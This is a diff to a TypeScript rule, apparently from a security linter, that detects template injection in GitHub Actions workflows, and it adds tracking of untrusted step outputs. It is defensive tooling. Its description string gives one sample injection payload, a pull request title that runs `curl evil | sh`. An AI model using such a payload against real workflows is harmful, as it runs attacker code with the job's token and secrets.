@@ -1,6 +1,6 @@
 import type { Rule } from '../../../src/model/rule.js';
-import { get, isMap, str } from '../../../src/parsers/data/tree.js';
-import { actionRepo, envLookup, expressionsIn, GHA_STANDARDS, HARDENING, stepEvents, stepHosts, steps, untrustedRefs, usesOf } from './workflow.js';
+import { get, isMap, str, type DataMap } from '../../../src/parsers/data/tree.js';
+import { actionRepo, envLookup, expressionsIn, GHA_STANDARDS, HARDENING, runnerLabels, sourceLines, stepEvents, stepHosts, steps, untrustedRefs, usesOf, type EnvLookup, type Job, type Workflow } from './workflow.js';
 
 /**
  * Inputs of well-known actions that run their value as code (a shell command, a script, an
@@ -22,19 +22,75 @@ const CODE_INPUTS: ReadonlyMap<string, readonly string[]> = new Map([
   ['cardinalby/js-eval-action', ['expression']],
 ]);
 
+/**
+ * A line of a `run:` script that writes one step output whose whole value is a single variable or
+ * expression, unchanged: `echo "NAME=$VAR" >> "$GITHUB_OUTPUT"`, `echo NAME=${{ … }} >> $GITHUB_OUTPUT`,
+ * or the older `echo "::set-output name=NAME::$VAR"`. Groups: output name, then the value.
+ */
+const OUTPUT_WRITE = [
+  /^\s*echo\s+(?:-[neE]+\s+)?(["']?)([\w-]+)=(\$\{\{[^}]*\}\}|\$\{?[A-Za-z_]\w*\}?)\1\s*>>\s*(["']?)\$\{?GITHUB_OUTPUT\}?\4\s*$/,
+  /^\s*echo\s+(["']?)::set-output name=([\w-]+)::(\$\{\{[^}]*\}\}|\$\{?[A-Za-z_]\w*\}?)\1\s*$/,
+];
+
+/**
+ * The step outputs of a job that hold attacker-controlled text as it came (`steps.ID.outputs.NAME`
+ * → context), from steps before `before`: written by a bash script straight from an `env:` variable
+ * bound to such a context, or from the context itself. A value passed through any command or
+ * parameter expansion is not followed (it may have been cleaned). `$VAR` is read as a shell variable
+ * only where the script runs in bash or sh: an explicit `shell:`, or no `shell:` on a job whose
+ * runners are not Windows (where the default shell is PowerShell).
+ */
+function untrustedOutputs(text: string, wf: Workflow, job: Job): Map<string, { source: string; step: number }> {
+  const out = new Map<string, { source: string; step: number }>();
+  const all = steps(job);
+  const labels = runnerLabels(job)?.labels ?? [];
+  const jobShell = str(get(get(get(job.node, 'defaults'), 'run'), 'shell')) ?? str(get(get(get(wf.root, 'defaults'), 'run'), 'shell'));
+  all.forEach((step, index) => {
+    const id = str(get(step, 'id'))?.trim();
+    const run = get(step, 'run');
+    if (!id || !run) return;
+    const shell = (str(get(step, 'shell')) ?? jobShell)?.trim().toLowerCase();
+    const posix = shell ? /^(bash|sh)\b/.test(shell) : labels.length > 0 && !labels.some((l) => l.includes('windows') || l.includes('${{'));
+    const events = stepEvents(wf, job, step);
+    const env = envLookup(text, wf, job, step, events);
+    for (const l of sourceLines(text, run)) {
+      const m = OUTPUT_WRITE.map((re) => re.exec(l.line)).find(Boolean);
+      if (!m) continue;
+      const value = m[3];
+      let source: string | undefined;
+      if (value.startsWith('${{')) source = untrustedRefs(value.slice(3, -2), undefined, events)[0];
+      else if (posix && (m[1] === '"' || m[1] === '')) source = env(`env.${/\w+/.exec(value.slice(1))![0]}`);
+      if (source) out.set(`${id}.${m[2]}`.toLowerCase(), { source, step: index });
+    }
+  });
+  return out;
+}
+
+/** `env`, with the outputs of the job's earlier steps (than `step`) that hold untrusted text. */
+function withOutputs(env: EnvLookup, outputs: Map<string, { source: string; step: number }>, step: number): EnvLookup {
+  return (path) => {
+    const m = /^steps\.([\w-]+)\.outputs\.([\w-]+)$/i.exec(path);
+    if (!m) return env(path);
+    const o = outputs.get(`${m[1]}.${m[2]}`.toLowerCase());
+    return o && o.step < step ? o.source : undefined;
+  };
+}
+
 /** Attacker-controlled event text expanded by `${{ }}` into a shell script, a github-script body or another action input run as code. */
 const rule: Rule = {
   meta: {
     id: 'iac/gha-template-injection',
     title: 'Untrusted input expanded into a workflow script',
     description:
-      'GitHub expands `${{ }}` expressions into a `run:` script (or an input that an action runs as code: an `actions/github-script` body, `mikefarah/yq` `cmd`, `appleboy/ssh-action` `script`, `azure/cli` `inlineScript` and the like) before the shell or Node sees it. When the expression holds text an outside contributor controls (an issue or pull request title or body, a comment, a branch name, a commit message, an author e-mail), that text becomes code: a title such as `"; curl evil | sh; "` runs with the job\'s token and secrets. Passing the value through `env:` and reading it as a quoted shell variable keeps it data. A context only counts where one of the events the step can run on fills it (the workflow\'s triggers, narrowed by a job or step `if:` on `github.event_name`): `github.head_ref` in a push-only workflow is empty; a reusable workflow (`workflow_call`) runs with any caller\'s event. A composite action\'s steps (`runs.using: composite` in an `action.yml`) are checked the same way: the action runs on whatever event its caller\'s workflow has, so every attacker-controlled context counts, as in a reusable workflow; its own `inputs.*` are for the calling workflow to keep clean, as a reusable workflow\'s are, and are not reported.',
+      'GitHub expands `${{ }}` expressions into a `run:` script (or an input that an action runs as code: an `actions/github-script` body, `mikefarah/yq` `cmd`, `appleboy/ssh-action` `script`, `azure/cli` `inlineScript` and the like) before the shell or Node sees it. When the expression holds text an outside contributor controls (an issue or pull request title or body, a comment, a branch name, a commit message, an author e-mail), that text becomes code: a title such as `"; curl evil | sh; "` runs with the job\'s token and secrets. Passing the value through `env:` and reading it as a quoted shell variable keeps it data. A context only counts where one of the events the step can run on fills it (the workflow\'s triggers, narrowed by a job or step `if:` on `github.event_name`, unless text around its `${{ }}` makes that condition always true): `github.head_ref` in a push-only workflow is empty; a reusable workflow (`workflow_call`) runs with any caller\'s event. A step output that an earlier step of the job wrote unchanged from such a context (`echo "title=$TITLE" >> "$GITHUB_OUTPUT"` in bash, with `TITLE: ${{ github.event.pull_request.title }}` in its `env:`, or the context itself) carries it to a later `${{ steps.ID.outputs.title }}`; an output passed through any command or parameter expansion first may have been cleaned and is not followed. A composite action\'s steps (`runs.using: composite` in an `action.yml`) are checked the same way: the action runs on whatever event its caller\'s workflow has, so every attacker-controlled context counts, as in a reusable workflow; its own `inputs.*` are for the calling workflow to keep clean, as a reusable workflow\'s are, and are not reported.',
     severity: 'high',
     kinds: ['github-workflow', 'github-action'],
     messages: {
       run: '`{{expression}}` expands attacker-controlled `{{context}}` straight into a `run:` script (code injection); pass it through `env:` (e.g. `env: VALUE: ${{ {{context}} }}`) and use `"$VALUE"` in the script.',
       env: '`{{expression}}` re-expands `{{variable}}`, which holds attacker-controlled `{{context}}`, into the script (code injection); read it as a shell variable (`"$VAR"`) or `process.env.VAR`, never as `${{ env.VAR }}`.',
       script: '`{{expression}}` expands attacker-controlled `{{context}}` into the `actions/github-script` code (code injection); pass it through `env:` and read `process.env.VALUE` instead.',
+      output:
+        '`{{expression}}` expands `{{variable}}`, a step output an earlier step wrote straight from attacker-controlled `{{context}}`, into the script (code injection); pass it through `env:` (`env: VALUE: ${{ {{variable}} }}`) and read it as a quoted shell variable.',
       matrix: '`{{expression}}` expands `{{variable}}`, a matrix value built from attacker-controlled `{{context}}`, into the script (code injection); pass it through `env:` and read it as a quoted shell variable, or build the matrix from trusted values.',
       input: '`{{expression}}` expands attacker-controlled `{{context}}` into the `{{input}}` input of `{{action}}`, which runs it as code (code injection); pass it through `env:` and read the variable inside the command instead.',
     },
@@ -46,16 +102,17 @@ const rule: Rule = {
       'https://docs.zizmor.sh/audits/#template-injection',
     ],
     standards: { ...GHA_STANDARDS, cwe: ['CWE-78', 'CWE-94'] },
-    equivalents: { zizmor: ['template-injection'], checkov: ['CKV_GHA_2'], scorecard: ['Dangerous-Workflow'], semgrep: ['yaml.github-actions.security.run-shell-injection.run-shell-injection'] },
+    equivalents: { zizmor: ['template-injection'], checkov: ['CKV_GHA_2'], actionlint: ['expression'], octoscan: ['expression-injection'], scorecard: ['Dangerous-Workflow'], semgrep: ['yaml.github-actions.security.run-shell-injection.run-shell-injection'] },
     security: true,
     since: '0.1.0',
   },
   check(ctx) {
     const text = ctx.file.text;
     for (const { wf, job } of stepHosts(ctx)) {
-      for (const step of steps(job)) {
+      const outputs = untrustedOutputs(text, wf, job);
+      steps(job).forEach((step: DataMap, index: number) => {
         const events = stepEvents(wf, job, step);
-        const env = envLookup(text, wf, job, step, events);
+        const env = withOutputs(envLookup(text, wf, job, step, events), outputs, index);
         const run = get(step, 'run');
         const uses = usesOf(step);
         const targets: { node: typeof run; messageId: string; input?: string; action?: string }[] = [];
@@ -77,15 +134,15 @@ const rule: Rule = {
             const bad = untrustedRefs(ex.body, env, events);
             if (!bad.length) continue;
             const expression = text.slice(ex.start, ex.end).replace(/\s+/g, ' ');
-            const via = /^((env|matrix)\.\S+) \(= (.+)\)$/.exec(bad[0]);
+            const via = /^((env|matrix|steps)\.\S+) \(= (.+)\)$/.exec(bad[0]);
             ctx.report({
-              messageId: via ? via[2] : t.messageId,
+              messageId: via ? (via[2] === 'steps' ? 'output' : via[2]) : t.messageId,
               offsets: [ex.start, ex.end],
               data: via ? { expression, variable: via[1], context: via[3] } : { expression, context: bad[0], ...(t.input ? { input: t.input, action: t.action! } : {}) },
             });
           }
         }
-      }
+      });
     }
   },
 };
